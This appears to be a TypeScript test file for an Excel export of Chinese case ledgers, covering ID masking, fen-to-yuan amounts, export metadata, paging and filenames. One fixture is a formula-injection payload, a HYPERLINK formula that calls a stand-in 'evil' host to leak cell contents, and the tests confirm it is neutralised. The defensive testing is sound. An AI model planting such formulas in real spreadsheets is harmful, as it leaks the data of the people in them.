import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { attachmentDisposition, ledgerText, ledgerWorkbook, pagesOf, type LedgerDefinition } from './ledger-export.js';

interface Row {
  name: string;
  idNumber: string;
  amountFen: number | null;
  on: string;
  paid: boolean;
}

const LEDGER: LedgerDefinition<Row> = {
  list: 'test.rows',
  title: '测试台账',
  personal: true,
  columns: [
    { header: '姓名', value: (r) => r.name },
    { header: '身份证号', kind: 'idNumber', value: (r) => r.idNumber },
    { header: '金额（元）', kind: 'fen', value: (r) => r.amountFen },
    { header: '日期', kind: 'date', value: (r) => r.on },
    { header: '已发放', kind: 'yesNo', value: (r) => r.paid },
  ],
};

async function open(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

const values = (sheet: ExcelJS.Worksheet, row: number) => (sheet.getRow(row).values as unknown[]).slice(1);

describe('ledger workbook', () => {
  const at = new Date('2025-03-01T16:30:00Z'); // 2025-03-02 00:30 in Shanghai: the date must roll over
  const rows: Row[] = [
    { name: '王小明', idNumber: '310101199001011234', amountFen: 123_456, on: '2025-02-28', paid: true },
    { name: '=HYPERLINK("http://evil/?"&A1,"x")', idNumber: '31010119900101123X', amountFen: 5, on: '2025-03-01', paid: false },
    { name: '@SUM(A1)', idNumber: '310101199001011234', amountFen: null, on: '2025-03-01', paid: false },
  ];

  it('writes the Chinese headers, then one row per record with fen as yuan and ID numbers masked as the lists mask them', async () => {
    const { body, rowCount } = await ledgerWorkbook(LEDGER, { filters: [], rows }, { exportedBy: '张三（zhangsan）', at });
    expect(rowCount).toBe(3);
    const sheet = (await open(body)).getWorksheet('测试台账');
    if (!sheet) throw new Error('no ledger sheet');
    expect(values(sheet, 1)).toEqual(['姓名', '身份证号', '金额（元）', '日期', '已发放']);
    // 123 456 fen = 1 234.56 yuan; 5 fen = 0.05 yuan (not 0.5).
    expect(values(sheet, 2)).toEqual(['王小明', '310***********1234', 1234.56, '2025-02-28', '是']);
    expect(sheet.getRow(3).getCell(3).value).toBe(0.05);
    expect(sheet.getRow(3).getCell(2).value).toBe('310***********123X');
    expect(sheet.getRow(4).getCell(3).value).toBeNull();
    expect(sheet.getRow(4).getCell(5).value).toBe('否');
    expect(sheet.getColumn(3).numFmt).toBe('#,##0.00');
    expect(sheet.rowCount).toBe(4);
  });

  it('neutralises cells that start like a formula: a text cell with a leading apostrophe in a text-typed column, never a formula', async () => {
    const { body } = await ledgerWorkbook(LEDGER, { filters: [{ label: '备注', value: '+1+1' }], rows }, { exportedBy: '张三', at });
    const workbook = await open(body);
    const sheet = workbook.getWorksheet('测试台账');
    if (!sheet) throw new Error('no ledger sheet');
    for (const row of [3, 4]) {
      const cell = sheet.getRow(row).getCell(1);
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(String(cell.value).startsWith("'")).toBe(true);
      expect(cell.numFmt).toBe('@');
    }
    expect(sheet.getRow(3).getCell(1).value).toBe('\'=HYPERLINK("http://evil/?"&A1,"x")');
    const about = workbook.getWorksheet('导出说明');
    expect(about?.getRow(7).getCell(2).value).toBe("'+1+1");
  });

  it('writes who exported, when (Shanghai time), the purpose, the count and the filters on the second sheet', async () => {
    const filters = [
      { label: '状态', value: '已批准' },
      { label: '区划', value: '310115004' },
    ];
    const { body } = await ledgerWorkbook(LEDGER, { filters, rows }, { exportedBy: '张三（zhangsan）', at, purpose: '月度核查' });
    const about = (await open(body)).getWorksheet('导出说明');
    if (!about) throw new Error('no filters sheet');
    const lines = Array.from({ length: about.rowCount }, (_, i) => values(about, i + 1));
    expect(lines).toEqual([['台账', '测试台账'], ['导出人', '张三（zhangsan）'], ['导出时间', '2025-03-02 00:30（北京时间）'], ['导出用途', '月度核查'], ['记录数', '3 条'], ['筛选条件'], ['　状态', '已批准'], ['　区划', '310115004']]);
  });

  it('says so when no filter narrowed the list, and drops characters XML cannot hold', async () => {
    const { body } = await ledgerWorkbook(LEDGER, { filters: [], rows: [{ ...rows[0], name: '王\u0000小明' }] }, { exportedBy: '张三', at });
    const workbook = await open(body);
    expect(workbook.getWorksheet('导出说明')?.getRow(6).getCell(2).value).toBe('无（辖区内全部记录）');
    expect(workbook.getWorksheet('测试台账')?.getRow(2).getCell(1).value).toBe('王小明');
    expect(ledgerText('\t=1+1')).toBe("'\t=1+1");
    expect(ledgerText('-2+3')).toBe("'-2+3");
    expect(ledgerText('王-2')).toBe('王-2');
  });

  it('takes the rows a page at a time, following the cursor until the last page', async () => {
    const calls: (number | undefined)[] = [];
    const all = Array.from({ length: 7 }, (_, i) => ({ ...rows[0], name: `人${i}` }));
    const pages = pagesOf<Row, number>(undefined, async (cursor) => {
      calls.push(cursor);
      const start = cursor ?? 0;
      return { items: all.slice(start, start + 3), next: start + 3 < all.length ? start + 3 : null };
    });
    const { rowCount, body } = await ledgerWorkbook(LEDGER, { filters: [], rows: pages }, { exportedBy: '张三', at });
    expect(calls).toEqual([undefined, 3, 6]);
    expect(rowCount).toBe(7);
    expect((await open(body)).getWorksheet('测试台账')?.getRow(8).getCell(1).value).toBe('人6');
  });

  it('names the file in RFC 5987 form, with an ASCII fallback', () => {
    expect(attachmentDisposition('救助案件台账_202503020030.xlsx')).toBe(`attachment; filename="_______202503020030.xlsx"; filename*=UTF-8''${encodeURIComponent('救助案件台账_202503020030.xlsx')}`);
  });
});
